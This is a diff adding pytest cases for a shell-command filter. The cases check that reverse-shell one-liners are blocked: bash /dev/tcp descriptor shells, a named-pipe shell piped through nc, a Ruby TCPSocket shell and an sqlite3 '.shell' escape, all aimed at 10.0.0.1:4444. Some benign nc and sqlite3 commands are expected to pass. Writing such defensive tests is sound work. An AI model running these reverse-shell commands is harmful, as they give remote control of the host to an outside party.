@@ -400,3 +400,28 @@ def test_secrets_leaving_by_other_routes_and_capabilities_that_make_root(
     command: str, expected: str
 ) -> None:
     assert decision(command) == expected, command
+
+
+RUBY_SHELL = (
+    'ruby -rsocket -e\'f=TCPSocket.open("10.0.0.1",4444).to_i;'
+    'exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\''
+)
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196", "block"),
+        ("exec 5<>/dev/tcp/10.0.0.1/4444;cat <&5 | while read l; do $l 2>&5 >&5; done", "block"),
+        ("mknod /tmp/bp p; /bin/sh 0</tmp/bp | nc 10.0.0.1 4444 1>/tmp/bp", "block"),
+        (RUBY_SHELL, "block"),
+        ("sqlite3 /dev/null '.shell nc -e /bin/sh 10.0.0.1 4444'", "block"),
+        ("sqlite3 app.db '.tables'", "allow"),
+        ("nc -l 8080", "allow"),
+        ("nc -zv 10.0.0.1 22", "allow"),
+    ],
+)
+def test_reverse_shells_through_descriptors_pipes_and_dot_commands(
+    command: str, expected: str
+) -> None:
+    assert decision(command) == expected, command
